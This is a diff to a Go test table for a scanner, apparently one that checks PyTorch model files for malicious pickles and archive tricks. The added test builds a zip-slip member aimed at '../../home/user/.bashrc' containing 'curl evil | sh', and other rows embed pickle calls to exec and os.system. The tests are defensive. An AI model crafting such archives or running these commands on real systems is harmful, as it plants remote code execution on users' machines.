@@ -63,6 +63,7 @@ func TestPyTorch(t *testing.T) {
 		{"zip evil any name", "weights", fixtures.TorchZip("m", fixtures.MemoStackGlobal("builtins", "exec", "x"), nil), []string{"PICKLE001@m/data.pkl:builtins.exec"}, false},
 		{"zip extra pickle member", "model.pt", fixtures.TorchZip("archive", benign, []int64{4}, fixtures.Member{Name: "archive/extra/hidden.bin", Data: evil, Deflate: true}), []string{"PICKLE001@archive/extra/hidden.bin:os.system"}, false},
 		{"zip tensor data not read as pickle", "model.pt", fixtures.TorchZip("archive", benign, nil, fixtures.Member{Name: "archive/data/0", Data: evil}), nil, true},
+		{"zip slip member", "model.pt", fixtures.TorchZip("archive", benign, nil, fixtures.Member{Name: "../../home/user/.bashrc", Data: []byte("curl evil | sh\n")}), []string{"ARCHIVE001@../../home/user/.bashrc"}, false},
 		{"zip bomb", "model.pt", fixtures.TorchZip("archive", benign, nil, fixtures.Member{Name: "archive/extra/big.bin", Data: make([]byte, 2<<20), Deflate: true}), []string{"SCAN003@archive/extra/big.bin"}, false},
 		{"legacy benign", "old.pt", fixtures.TorchLegacy(benign, 4, 8, 2), nil, true},
 		{"legacy evil", "old.pt", fixtures.TorchLegacy(evil, 4), []string{"PICKLE001@:os.system"}, false},
